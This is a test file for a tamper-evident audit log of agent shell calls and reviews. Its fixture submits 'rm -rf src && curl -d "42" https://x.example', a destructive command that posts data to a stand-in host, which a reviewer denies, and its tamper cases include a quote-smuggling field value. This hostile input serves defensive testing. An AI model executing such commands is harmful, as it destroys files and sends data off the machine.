import { rmSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { build } from 'esbuild'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { linkEntry, noHash, type StoredEntry } from '../../src/people/audit/link-entry.ts'
import { verifyLog } from '../../src/gate/core/log/verify-log.ts'
import type { LogRuns } from '../../src/gate/core/ports/log-tree.ts'
import type { Store } from '../../src/gate/core/ports/store.ts'
import type { Database } from '../../src/gate/store/open-database.ts'
import { LogRunReader, type RunThread, startRunThread } from '../../src/gate/store/runs/log-run-reader.ts'
import { openPeopleGate } from '../people/open-people-gate.ts'
import { addReviewer } from '../people/review-answers.ts'

const root = fileURLToPath(new URL('../..', import.meta.url))
const program = join(root, 'node_modules', `.run-thread-${process.pid}.cjs`)

/** A log of a little more than two runs, with what people did in it; its database is open to whoever tampers. */
async function openWorld() {
  let database: Database | undefined
  const people = openPeopleGate({ through: one => (database = one) })
  const alice = await addReviewer(people)
  for (let i = 0; i < 450; i++) await people.gate.evaluate(callOf(i), { dryRun: i % 3 !== 0 })
  const { reviewId = '' } = await people.shell('rm -rf src && curl -d "42" https://x.example')
  await people.gate.reviews.answer({ reviewId, who: alice, approve: false, reason: 'no — never' })
  await people.gate.checkpoint()
  await people.gate.erase({ entry: 150, pointer: '/call/arguments', reason: 'an address' }, alice)
  while (people.store.head().seq % 200 !== 57) await people.gate.checkpoint().then(() => people.shell('ls'))
  return { store: people.store, database: database as Database, close: () => people.gate.close() }
}

const words = ['git status', 'cat notes.txt | grep "Zoë — 東京"', 'npm test 2>&1 | tail -5']

function callOf(i: number) {
  const command = words[i % words.length] as string
  const of = { session: 's', agent: 'a', profile: 'default', tool: null, cwd: null, at: 0 } as const
  return { ...of, id: `c-${i}`, kind: 'shell', origin: 'check', arguments: { command, i } } as const
}

let world: Awaited<ReturnType<typeof openWorld>>
beforeAll(async () => {
  await build({
    entryPoints: [join(root, 'src/gate/store/runs/main.ts')],
    outfile: program,
    bundle: true,
    format: 'cjs',
    platform: 'node',
  })
  world = await openWorld()
  world.database.exec(
    `PRAGMA foreign_keys = OFF; ${tables.map(name => `CREATE TEMP TABLE kept_${name} AS SELECT * FROM ${name};`).join('')}`,
  )
})
afterAll(async () => {
  await world.close()
  rmSync(program, { force: true })
})

const tables = ['entries', 'openings', 'erasures', 'checkpoints']

function putBack(database: Database): void {
  for (const name of tables)
    database.exec(`DELETE FROM ${name}; INSERT INTO ${name} SELECT * FROM temp.kept_${name}`)
}

const noRuns: LogRuns = {
  text: () => undefined,
  start: () => ({ most: 0, check: async () => undefined, end: () => {} }),
}

function withRuns(runs: LogRuns): Store {
  return Object.create(world.store, { runs: { value: runs } }) as Store
}

const inThreads = (threads: () => readonly RunThread[]) => new LogRunReader(world.database, threads)

/** What a verification says, or the error that it ends with. */
async function outcomeOf(runs: LogRuns) {
  try {
    return await verifyLog(withRuns(runs), {})
  } catch (error) {
    return { problems: [String(error)] }
  }
}

const alone = () => outcomeOf(noRuns)
const here = () => outcomeOf(inThreads(() => []))
const besideThis = () => outcomeOf(inThreads(() => [startRunThread(program), startRunThread(program)]))

test('a log as it was written is whole in every way, and its runs are checked as runs', async () => {
  const checked: number[] = []
  const reader = inThreads(() => [])
  const counting: LogRuns = {
    text: (after, count) => reader.text(after, count),
    start: entries => {
      const of = reader.start(entries)
      return {
        ...of,
        check: async run => {
          const whole = await of.check(run)
          checked.push(whole ? 1 : 0)
          return whole
        },
      }
    },
  }
  const size = world.store.head().seq
  expect((await verifyLog(withRuns(counting), {})).problems).toEqual([])
  expect(checked).toEqual(Array.from({ length: Math.floor(size / 200) }, () => 1))
  for (const way of [alone, here, besideThis])
    expect(await way()).toMatchObject({ ok: true, entries: size, head: world.store.head().hash })
})

/** Links every entry from one on anew, as somebody does who has the file and not the key. */
function writeAnew(database: Database, from: number, change: (entry: StoredEntry) => Partial<StoredEntry>) {
  const rows = database.prepare('SELECT * FROM entries ORDER BY seq').all() as unknown as StoredEntry[]
  const write = database.prepare('UPDATE entries SET body = ?, prev = ?, hash = ? WHERE seq = ?')
  let before: Pick<StoredEntry, 'seq' | 'hash'> = { seq: 0, hash: noHash }
  for (const row of rows) {
    const made = linkEntry(before, row.seq === from ? { ...row, ...change(row) } : row)
    if (row.seq >= from) write.run(made.body, made.prev, made.hash, made.seq)
    before = made
  }
}

const update = (set: string) => (database: Database, seq: number) =>
  void database.prepare(`UPDATE entries SET ${set} WHERE seq = ?`).run(seq)

const tampers: Readonly<Record<string, (database: Database, seq: number) => unknown>> = {
  'a body changed': update("body = replace(body, 'default', 'defaulT')"),
  'a time changed': update('at = at + 1'),
  'a time that no number of JavaScript holds': update('at = 9007199254740993'),
  'a kind changed': update("kind = 'review'"),
  'a kind with quotes': update(`kind = 'x","prev":"y'`),
  'a hash changed': update("hash = 'f' || substr(hash, 2)"),
  'a hash of nothing': update("hash = ''"),
  'the one before changed': update("prev = substr(prev, 2) || '0'"),
  'bytes that are no text': update("body = CAST(x'7bff7d' AS TEXT)"),
  'a zero byte': update('body = substr(body, 1, 20) || char(0) || substr(body, 21)'),
  'line ends and commas': update("body = '1,2,3' || char(10) || body"),
  'an entry taken out': (database, seq) => database.exec(`DELETE FROM entries WHERE seq = ${seq}`),
  'ten entries taken out': (database, seq) =>
    database.exec(`DELETE FROM entries WHERE seq BETWEEN ${seq} AND ${seq + 9}`),
  'a sealed part changed': (database, seq) =>
    database.exec(`UPDATE openings SET body = replace(body, 'a', 'b') WHERE seq = ${seq}`),
  'a sealed part added': (database, seq) =>
    database.exec(`UPDATE openings SET body = body || '/x ["s","x",1]' || char(10) WHERE seq = ${seq}`),
  'sealed parts taken out': (database, seq) => database.exec(`DELETE FROM openings WHERE seq = ${seq}`),
  'written anew without JSON': (database, seq) => writeAnew(database, seq, () => ({ body: '{"half' })),
  'written anew with another word': (database, seq) =>
    writeAnew(database, seq, ({ body }) => ({ body: body.replace('allow', 'deny') })),
  'a checkpoint of another key': database => database.exec("UPDATE checkpoints SET signature = 'AAAA'"),
  'an erasure without its row': database => database.exec('DELETE FROM erasures'),
}
/** In the first run and at its end, in the second, and in what is no whole run. */
const places = [2, 200, 201, 430]

test.each(Object.keys(tampers))('%s: every way of verifying says the same', async what => {
  const { database } = world
  const texts: string[] = []
  for (const seq of places) {
    try {
      tampers[what]?.(database, seq)
      const expected = await alone()
      expect(await here()).toEqual(expected)
      if (seq === 201) expect(await besideThis()).toEqual(expected)
      texts.push(...expected.problems)
    } finally {
      putBack(database)
    }
  }
  expect(texts.length).toBeGreaterThan(0)
})

test.each(['kind', 'body', 'prev', 'hash'])(
  '%s as bytes: every way of verifying says the same',
  async column => {
    const { database } = world
    // A table without the law of ours, as somebody who has the file may put in its place.
    database.exec(
      `CREATE TEMP TABLE entries AS SELECT * FROM main.entries; UPDATE temp.entries SET ${column} = CAST(${column} AS BLOB) WHERE seq = 2`,
    )
    try {
      const expected = await alone()
      expect(expected).toMatchObject({ ok: false })
      expect(await here()).toEqual(expected)
    } finally {
      database.exec('DROP TABLE temp.entries')
    }
  },
)

test('threads that fail, and that end, leave it to this one', async () => {
  const ending = (): RunThread => {
    const thread = startRunThread(program)
    thread.end()
    return thread
  }
  const failing = (): RunThread => {
    let fail: (error: unknown) => void = () => {}
    return {
      post: () => queueMicrotask(() => fail(new Error('out of memory'))),
      listen: (_answered, failed) => {
        fail = failed
      },
      end: () => {},
    }
  }
  for (const start of [ending, failing, () => startRunThread(join(root, 'no-such-program.cjs'))])
    expect(await verifyLog(withRuns(inThreads(() => [start()])), {})).toMatchObject({ ok: true })
})

test('whoever goes away ends the threads too, and the next verification is whole', async () => {
  const going = new AbortController()
  const ended: string[] = []
  const thread = (): RunThread => {
    const one = startRunThread(program)
    return {
      ...one,
      end: () => {
        ended.push('ended')
        one.end()
      },
    }
  }
  const runs = inThreads(() => [thread(), thread()])
  const asker = { signal: going.signal, onProgress: () => going.abort() }
  await expect(verifyLog(withRuns(runs), asker)).rejects.toMatchObject({ code: 'unavailable' })
  expect(ended).toEqual(['ended', 'ended'])
  expect((await verifyLog(withRuns(runs), {})).ok).toBe(true)
})

test('a run of more than 8 MiB is read entry by entry', async () => {
  const { database } = world
  database.prepare('UPDATE openings SET body = body || ? WHERE seq = 5').run(' '.repeat(9_000_000))
  expect(inThreads(() => []).text(0, 200)).toBeUndefined()
  const expected = await alone()
  expect(expected).toMatchObject({ ok: false })
  expect(await here()).toEqual(expected)
  putBack(database)
})
